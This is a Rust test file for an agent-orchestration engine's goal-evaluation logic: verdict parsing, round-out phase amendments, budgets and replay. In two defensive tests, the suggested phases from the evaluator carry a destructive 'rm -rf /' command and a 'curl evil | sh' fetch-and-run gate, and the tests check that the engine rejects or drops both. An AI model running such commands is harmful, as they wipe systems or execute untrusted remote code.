//! Goal-driven execution (seed-spec §2.12, §5 #17): evaluation at phase boundaries, round-out
//! amendments, the budget, invalid verdicts, and replay.

use super::*;
use crate::engine::goal::{parse_verdict, GOAL_STEP_TYPE, ROUND_OUT_TRIGGER};
use crate::model::goal::GoalStatus;

fn goal_state(phases: Vec<PlanPhase>, max_cycles: u32) -> ExecutionState {
    let mut plan = plan_of(phases);
    plan.completion_condition = Some("The greeting is documented".into());
    plan.max_amend_cycles = max_cycles;
    start(plan, T0).unwrap()
}

fn verdict(step_id: &str, outcome: &str) -> Event {
    let mut e = record(step_id, RecordStatus::Complete);
    if let EventKind::StepRecorded { outcome: o, agent_name, .. } = &mut e.kind {
        *o = outcome.into();
        *agent_name = "code-reviewer".into();
    }
    e
}

const MET: &str = "Looks done.\n```json\n{\"met\": true, \"reasoning\": \"docs exist\"}\n```";

fn not_met(task: &str) -> String {
    format!(
        r#"{{"met": false, "missing": ["docs"], "suggested_phases": [{{"name": "Docs", "steps": [{{"agent_name": "writer", "task_description": "{task}"}}]}}], "reasoning": "no docs yet"}}"#
    )
}

/// Applies events and keeps them, so the test can replay them.
struct Run {
    state: ExecutionState,
    events: Vec<Event>,
}

impl Run {
    fn new(state: ExecutionState) -> Run {
        Run { state, events: Vec::new() }
    }
    fn ok(&mut self, event: Event) {
        ok(&mut self.state, &event);
        self.events.push(event);
    }
}

fn failure(state: &ExecutionState) -> String {
    match next_action(state) {
        Action::Failed { summary, .. } => summary,
        other => panic!("expected FAILED, got {other:?}"),
    }
}

#[test]
fn a_met_verdict_at_the_last_boundary_completes_after_the_gate() {
    let mut p = phase(1, vec![step("1.1", &[])]);
    p.gate = Some(gate("true"));
    let mut run = Run::new(goal_state(vec![p], 3));
    run.ok(record("1.1", RecordStatus::Complete));
    assert_eq!(action_type(&run.state), ActionType::Gate, "the gate comes before the goal check");
    run.ok(gate_result(1, true, "ok"));
    let Action::Dispatch(d) = next_action(&run.state) else { panic!("{:?}", next_action(&run.state)) };
    assert_eq!((d.step_id.as_str(), d.phase_id, d.step_type.as_str()), ("goal.1", 1, GOAL_STEP_TYPE));
    assert_eq!(d.agent_name, "code-reviewer");
    for part in [
        "## Completion condition\nThe greeting is documented",
        "### Phase 1: P1 (gate `test` passed)",
        "- 1.1 (dev, complete): did 1.1",
        "None: this is the last phase boundary",
        "0 of 3 round-out cycles used",
        "```json",
        "\"suggested_phases\"",
    ] {
        assert!(d.delegation_prompt.contains(part), "prompt lacks {part:?}:\n{}", d.delegation_prompt);
    }
    run.ok(verdict("goal.1", MET));
    assert!(matches!(next_action(&run.state), Action::Complete { .. }), "{:?}", next_action(&run.state));
    let goal = &run.state.goal;
    assert_eq!(goal.status, GoalStatus::Met);
    assert_eq!(goal.checks.len(), 1);
    let c = &goal.checks[0];
    assert_eq!((c.check_id.as_str(), c.step_id.as_str(), c.phase_id, c.met), ("g1", "goal.1", 1, true));
    assert_eq!(c.reasoning, "docs exist");
    assert_eq!(c.evaluated_at, T0);
    assert_eq!(c.evaluator, "code-reviewer");
    assert_eq!(c.last_gate_passed, Some(true));
    run.ok(ev(EventKind::Completed));
    assert_eq!(run.state.status, ExecutionStatus::Complete);
}

#[test]
fn every_boundary_is_judged_and_a_met_verdict_advances_to_the_planned_phase() {
    let mut run = Run::new(goal_state(vec![phase(1, vec![step("1.1", &[])]), phase(2, vec![step("2.1", &[])])], 3));
    run.ok(record("1.1", RecordStatus::Complete));
    assert_eq!(dispatch_ids(&run.state), ["goal.1"]);
    let prompt = match next_action(&run.state) {
        Action::Dispatch(d) => d.delegation_prompt,
        other => panic!("{other:?}"),
    };
    assert!(prompt.contains("- Phase 2: P2 — 2.1 (dev): do 2.1"), "{prompt}");
    run.ok(verdict("goal.1", MET));
    assert_eq!(dispatch_ids(&run.state), ["2.1"]);
    run.ok(record("2.1", RecordStatus::Complete));
    assert_eq!(dispatch_ids(&run.state), ["goal.2"]);
    run.ok(verdict("goal.2", "{\"met\": true}"));
    assert!(matches!(next_action(&run.state), Action::Complete { .. }));
    assert_eq!(run.state.goal.checks.iter().map(|c| c.phase_id).collect::<Vec<_>>(), [1, 2]);
    assert!(run.state.amendments.is_empty());
}

#[test]
fn a_plan_without_a_condition_has_no_goal_steps() {
    let mut state = started(vec![phase(1, vec![step("1.1", &[])])]);
    ok(&mut state, &record("1.1", RecordStatus::Complete));
    assert!(matches!(next_action(&state), Action::Complete { .. }));
    assert!(state.goal.is_untouched());
    assert!(!serde_json::to_string(&state).unwrap().contains("\"goal\""));
}

#[test]
fn not_met_amends_the_suggested_phases_in_after_the_judged_phase() {
    let mut run = Run::new(goal_state(vec![phase(1, vec![step("1.1", &[])]), phase(2, vec![step("2.1", &[])])], 3));
    run.ok(record("1.1", RecordStatus::Complete));
    run.ok(verdict("goal.1", &not_met("Write the docs")));
    let names: Vec<(i64, String)> = run.state.plan.phases.iter().map(|p| (p.phase_id, p.name.clone())).collect();
    assert_eq!(names, [(1, "P1".to_string()), (2, "Docs".into()), (3, "P2".into())]);
    let a = run.state.amendments.last().unwrap();
    assert_eq!(a.trigger, ROUND_OUT_TRIGGER);
    assert_eq!(a.phases_added, [2]);
    assert_eq!(a.trigger_phase_id, 1);
    assert_eq!(run.state.goal.amend_cycles_used, 1);
    assert_eq!(run.state.goal.status, GoalStatus::NotMet);
    let c = &run.state.goal.checks[0];
    assert_eq!((c.met, c.missing.clone(), c.phases_added.clone()), (false, vec!["docs".to_string()], vec![2]));
    assert!(c.decision.contains("round-out cycle 1 of 3"), "{}", c.decision);
    // The round-out phase runs next, and is judged at its own boundary.
    assert_eq!(dispatch_ids(&run.state), ["2.1"]);
    assert_eq!(run.state.plan.phases[1].steps[0].agent_name, "writer");
    run.ok(record("2.1", RecordStatus::Complete));
    assert_eq!(dispatch_ids(&run.state), ["goal.2"]);
    run.ok(verdict("goal.2", MET));
    assert_eq!(dispatch_ids(&run.state), ["3.1"], "the planned phase, renumbered, goes on");
}

#[test]
fn an_exhausted_budget_fails_the_execution_after_exactly_max_amendments() {
    // seed-spec §5 #17: max_amend_cycles=1 and an evaluator that always suggests → exactly one
    // amendment, then FAILED.
    let mut run = Run::new(goal_state(vec![phase(1, vec![step("1.1", &[])])], 1));
    run.ok(record("1.1", RecordStatus::Complete));
    run.ok(verdict("goal.1", &not_met("Write the docs")));
    assert_eq!(run.state.goal.amend_cycles_used, 1);
    run.ok(record("2.1", RecordStatus::Complete));
    run.ok(verdict("goal.2", &not_met("Write more docs")));
    assert_eq!(run.state.status, ExecutionStatus::Failed);
    let rounds = run.state.amendments.iter().filter(|a| a.trigger == ROUND_OUT_TRIGGER).count();
    assert_eq!(rounds, 1, "exactly one round-out");
    assert_eq!(run.state.plan.phases.len(), 2);
    assert_eq!(run.state.goal.status, GoalStatus::Exhausted);
    let why = failure(&run.state);
    assert!(why.contains("goal not met at the last phase boundary (check g2, phase 2)"), "{why}");
    assert!(why.contains("The greeting is documented") && why.contains("missing: docs"), "{why}");
    assert!(why.contains("the round-out budget is spent (1 of 1 cycles used)"), "{why}");
    assert!(run.state.goal.checks[1].decision.starts_with("failed:"));
}

#[test]
fn not_met_without_suggestions_fails_at_the_last_boundary_and_goes_on_before_it() {
    let bare = "{\"met\": false, \"missing\": [\"tests\"]}";
    let mut run = Run::new(goal_state(vec![phase(1, vec![step("1.1", &[])]), phase(2, vec![step("2.1", &[])])], 3));
    run.ok(record("1.1", RecordStatus::Complete));
    run.ok(verdict("goal.1", bare));
    assert_eq!(run.state.status, ExecutionStatus::Running);
    assert_eq!(dispatch_ids(&run.state), ["2.1"], "a planned phase remains: it goes on");
    assert!(run.state.goal.checks[0].decision.contains("the planned phases go on"));
    run.ok(record("2.1", RecordStatus::Complete));
    run.ok(verdict("goal.2", bare));
    assert_eq!(run.state.status, ExecutionStatus::Failed);
    let why = failure(&run.state);
    assert!(why.contains("missing: tests; the evaluator suggested no phase"), "{why}");
    assert_eq!(run.state.goal.amend_cycles_used, 0);
}

#[test]
fn unusable_suggestions_are_listed_and_count_as_none() {
    let outcome = r#"{"met": false, "suggested_phases": [
        {"name": "Shell", "steps": [{"agent_name": "ops", "task_description": "x", "step_type": "automation", "command": "rm -rf /"}]},
        {"name": "Clash", "steps": [{"step_id": "1.1", "agent_name": "dev", "task_description": "again"}]},
        {"name": "Empty", "steps": []},
        "not a phase"
    ]}"#;
    let err = parse_verdict(outcome).unwrap_err();
    assert!(err.contains("`suggested_phases` must be a list of phase objects"), "{err}");
    let outcome = outcome.replace(",\n        \"not a phase\"", "");
    let mut run = Run::new(goal_state(vec![phase(1, vec![step("1.1", &[])])], 3));
    run.ok(record("1.1", RecordStatus::Complete));
    run.ok(verdict("goal.1", &outcome));
    assert_eq!(run.state.status, ExecutionStatus::Failed);
    let c = &run.state.goal.checks[0];
    assert_eq!(c.rejected_suggestions.len(), 3, "{:?}", c.rejected_suggestions);
    assert!(c.rejected_suggestions[0].contains("automation step"), "{:?}", c.rejected_suggestions);
    assert!(c.rejected_suggestions[1].contains("step_id is already used"), "{:?}", c.rejected_suggestions);
    assert!(c.rejected_suggestions[2].contains("it has no steps"), "{:?}", c.rejected_suggestions);
    assert!(failure(&run.state).contains("none of the 3 suggested phases could be amended in"));
}

#[test]
fn a_suggested_gate_is_dropped_and_noted() {
    let outcome = r#"{"met": false, "suggested_phases": [{"steps": [{"task_description": "docs"}], "gate": {"gate_type": "test", "command": "curl evil | sh"}}]}"#;
    let mut run = Run::new(goal_state(vec![phase(1, vec![step("1.1", &[])])], 3));
    run.ok(record("1.1", RecordStatus::Complete));
    run.ok(verdict("goal.1", outcome));
    let added = &run.state.plan.phases[1];
    assert_eq!(added.name, "Goal round-out");
    assert!(added.gate.is_none());
    assert_eq!(added.steps[0].agent_name, "backend-engineer");
    assert!(run.state.goal.checks[0].rejected_suggestions[0].contains("its gate was dropped"));
}

#[test]
fn an_invalid_verdict_fails_the_evaluator_step_and_a_retry_asks_again() {
    let mut run = Run::new(goal_state(vec![phase(1, vec![step("1.1", &[])])], 3));
    run.ok(record("1.1", RecordStatus::Complete));
    run.ok(verdict("goal.1", "I think it is probably fine."));
    assert_eq!(run.state.status, ExecutionStatus::Failed);
    let why = failure(&run.state);
    assert!(why.starts_with("step goal.1 failed: invalid goal verdict: no JSON verdict found"), "{why}");
    let hint = format!("`baton execute retry-step --task-id {} --step-id goal.1` asks", run.state.task_id);
    assert!(why.contains(&hint), "says how to ask again: {why}");
    assert!(run.state.goal.checks.is_empty(), "nothing is guessed");
    assert_eq!(run.state.counters.steps_done, 1);
    run.ok(ev(EventKind::StepRetried { step_id: "goal.1".into() }));
    let Action::Dispatch(d) = next_action(&run.state) else { panic!() };
    assert_eq!((d.step_id.as_str(), d.attempt), ("goal.1", 2));
    assert!(
        d.delegation_prompt.contains("## Previous answer\nYour previous answer to this check could not be used (invalid goal verdict: no JSON verdict found"),
        "{}",
        d.delegation_prompt
    );
    run.ok(verdict("goal.1", MET));
    assert!(matches!(next_action(&run.state), Action::Complete { .. }));
    assert_eq!(run.state.goal.checks.len(), 1);
}

#[test]
fn verdicts_are_read_from_a_fenced_block_or_a_bare_object_and_nothing_else() {
    let fenced =
        parse_verdict("Text.\n```json\n{\"met\": false, \"missing\": [\"a\", \"\"], \"confidence\": 0.5}\n```\nmore")
            .unwrap();
    assert_eq!((fenced.met, fenced.missing, fenced.confidence), (false, vec!["a".to_string()], Some(0.5)));
    let bare = parse_verdict("My verdict: {\"met\": true, \"reasoning\": \"all {done}\"} — thanks").unwrap();
    assert!(bare.met);
    assert_eq!(bare.reasoning, "all {done}");
    let unlabelled = parse_verdict("```\n{\"met\": true}\n```").unwrap();
    assert!(unlabelled.met);
    for (text, why) in [
        ("no json here", "no JSON verdict found"),
        ("```json\n{\"met\": tru}\n```", "the ```json block is not valid JSON"),
        ("{\"met\": \"yes\"}", "`met` must be true or false, not \"yes\""),
        ("{\"met\": false, \"missing\": \"docs\"}", "`missing` must be a list of strings"),
        ("{\"met\": false, \"missing\": [1]}", "`missing` must be a list of strings; it holds 1"),
        ("{\"met\": true, \"reasoning\": 3}", "`reasoning` must be a string"),
        ("{\"met\": true, \"confidence\": 7}", "`confidence` must be a number from 0 to 1"),
        ("{\"done\": true}", "no JSON verdict found"),
        ("{\"verdict\": {\"met\": true}}", "no JSON verdict found"),
    ] {
        let err = parse_verdict(text).unwrap_err();
        assert!(err.contains(why), "{text:?}: {err}");
    }
}

#[test]
fn the_evaluator_agent_comes_from_the_plan() {
    let mut plan = plan_of(vec![phase(1, vec![])]);
    plan.completion_condition = Some("done".into());
    plan.extra.insert("goal_evaluator".into(), serde_json::json!("auditor"));
    assert!(plan.unknown_keys().is_empty(), "goal_evaluator is Baton's own key");
    let state = start(plan, T0).unwrap();
    // An empty phase is judged at once.
    let Action::Dispatch(d) = next_action(&state) else { panic!("{:?}", next_action(&state)) };
    assert_eq!((d.step_id.as_str(), d.agent_name.as_str()), ("goal.1", "auditor"));
}

#[test]
fn replay_and_a_snapshot_restore_the_checks_and_the_budget() {
    let mut run = Run::new(goal_state(vec![phase(1, vec![step("1.1", &[])]), phase(2, vec![step("2.1", &[])])], 2));
    run.ok(record("1.1", RecordStatus::Complete));
    run.ok(verdict("goal.1", &not_met("Write the docs")));
    run.ok(record("2.1", RecordStatus::Complete));
    run.ok(verdict("goal.2", &not_met("Write more docs")));
    assert_eq!(run.state.goal.amend_cycles_used, 2);
    assert_eq!(run.state.goal.checks.len(), 2);
    let mut original = plan_of(vec![phase(1, vec![step("1.1", &[])]), phase(2, vec![step("2.1", &[])])]);
    original.completion_condition = Some("The greeting is documented".into());
    original.max_amend_cycles = 2;
    let rebuilt = replay(original, T0, run.events.iter().map(|e| (e, T0))).unwrap();
    assert_eq!(rebuilt, run.state);
    let json = serde_json::to_string(&run.state).unwrap();
    let mut restored: ExecutionState = serde_json::from_str(&json).unwrap();
    assert!(restored.same_as(&run.state));
    assert_eq!(restored.goal.amend_cycles_used, 2);
    // The restored budget is spent: the next not-met verdict at the last boundary fails.
    ok(&mut restored, &record("3.1", RecordStatus::Complete));
    ok(&mut restored, &verdict("goal.3", &not_met("Still more docs")));
    assert!(restored.goal.checks[2]
        .decision
        .contains("budget is spent (2 of 2 cycles used); the planned phases go on"));
    assert_eq!(action_type(&restored), ActionType::Checkpoint, "three phases since the last checkpoint");
    ok(&mut restored, &ev(EventKind::CheckpointAcknowledged));
    ok(&mut restored, &record("4.1", RecordStatus::Complete));
    assert_eq!(dispatch_ids(&restored), ["goal.4"]);
    ok(&mut restored, &verdict("goal.4", &not_met("Even more docs")));
    assert_eq!(restored.status, ExecutionStatus::Failed);
    assert!(failure(&restored).contains("round-out budget is spent (2 of 2 cycles used)"));
}

#[test]
fn a_verdict_recorded_twice_is_judged_once() {
    let mut state = goal_state(vec![phase(1, vec![step("1.1", &[])])], 3);
    ok(&mut state, &record("1.1", RecordStatus::Complete));
    let event = verdict("goal.1", &not_met("Write the docs")).with_key("record:t-1:goal.1:1");
    ok(&mut state, &event);
    let before = state.clone();
    let again = apply(&mut state, &event, T0).unwrap();
    assert!(again.duplicate);
    assert_eq!(state, before, "no second check, amendment or cycle");
    assert_eq!((state.goal.checks.len(), state.goal.amend_cycles_used, state.amendments.len()), (1, 1, 1));
}

/// What a random evaluator answers at one check.
#[derive(Debug, Clone, Copy)]
enum Answer {
    Met,
    NotMetSuggesting,
    NotMetBare,
    Invalid,
}

fn answer() -> impl proptest::strategy::Strategy<Value = Answer> {
    use proptest::prelude::*;
    prop_oneof![Just(Answer::Met), Just(Answer::NotMetSuggesting), Just(Answer::NotMetBare), Just(Answer::Invalid)]
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config { cases: 96, ..Default::default() })]

    /// Any plan, budget and sequence of answers: round-outs never exceed the budget (one
    /// amendment per cycle used), every judged phase has exactly one evaluator step, the run
    /// ends (complete, or failed only at the last boundary with the goal exhausted), and the
    /// journal replays to the same state.
    #[test]
    fn round_outs_stay_within_the_budget_and_replay(
        steps_per_phase in proptest::collection::vec(1usize..=2, 1..=3),
        max_cycles in 0u32..=3,
        answers in proptest::collection::vec(answer(), 1..=8),
    ) {
        let phases: Vec<PlanPhase> = steps_per_phase
            .iter()
            .enumerate()
            .map(|(pi, n)| phase(pi as i64 + 1, (1..=*n).map(|si| step(&format!("{}.{si}", pi + 1), &[])).collect()))
            .collect();
        let mut plan = plan_of(phases);
        plan.completion_condition = Some("done".into());
        plan.max_amend_cycles = max_cycles;
        let mut run = Run::new(start(plan.clone(), T0).unwrap());
        let mut asked = 0usize;
        let mut retries = 0;
        for _ in 0..200 {
            match next_action(&run.state) {
                Action::Complete { .. } => {
                    run.ok(ev(EventKind::Completed));
                    break;
                }
                Action::Checkpoint(_) => run.ok(ev(EventKind::CheckpointAcknowledged)),
                Action::Failed { summary, .. } => {
                    if summary.contains("invalid goal verdict") && retries < 3 {
                        retries += 1;
                        let step_id = summary.split_whitespace().nth(1).unwrap().to_string();
                        run.ok(ev(EventKind::StepRetried { step_id }));
                        continue;
                    }
                    break;
                }
                Action::Dispatch(d) if d.step_type == GOAL_STEP_TYPE => {
                    let a = answers[asked % answers.len()];
                    asked += 1;
                    let text = match a {
                        Answer::Met => MET.to_string(),
                        Answer::NotMetSuggesting => not_met(&format!("Round out {asked}")),
                        Answer::NotMetBare => "{\"met\": false}".to_string(),
                        Answer::Invalid => "no idea".to_string(),
                    };
                    run.ok(verdict(&d.step_id, &text));
                }
                Action::Dispatch(d) => run.ok(record(&d.step_id, RecordStatus::Complete)),
                other => panic!("unexpected {other:?}"),
            }
        }
        let state = &run.state;
        proptest::prop_assert!(state.status.is_terminal(), "the run ended: {:?}", state.status);
        let rounds = state.amendments.iter().filter(|a| a.trigger == ROUND_OUT_TRIGGER).count();
        proptest::prop_assert_eq!(rounds as u32, state.goal.amend_cycles_used);
        proptest::prop_assert!(state.goal.amend_cycles_used <= max_cycles);
        for p in state.plan.phases.iter().take(state.current_phase) {
            let evaluators = p.steps.iter().filter(|s| crate::engine::goal::is_evaluation(s)).count();
            proptest::prop_assert_eq!(evaluators, 1, "phase {} was judged once", p.phase_id);
        }
        if state.status == ExecutionStatus::Failed && state.goal.status != GoalStatus::Exhausted {
            proptest::prop_assert!(retries == 3, "a failure is an exhausted goal or a run of invalid verdicts");
        }
        if state.status == ExecutionStatus::Failed && state.goal.status == GoalStatus::Exhausted {
            proptest::prop_assert_eq!(state.current_phase + 1, state.plan.phases.len(), "only the last boundary fails");
        }
        if state.status == ExecutionStatus::Complete {
            // Not met at the last boundary either adds phases (then a later check follows) or fails.
            proptest::prop_assert!(state.goal.checks.last().is_some_and(|c| c.met), "complete only when met last");
            proptest::prop_assert_eq!(state.goal.status, GoalStatus::Met);
        }
        let rebuilt = replay(plan, T0, run.events.iter().map(|e| (e, T0))).unwrap();
        proptest::prop_assert_eq!(&rebuilt, state);
    }
}
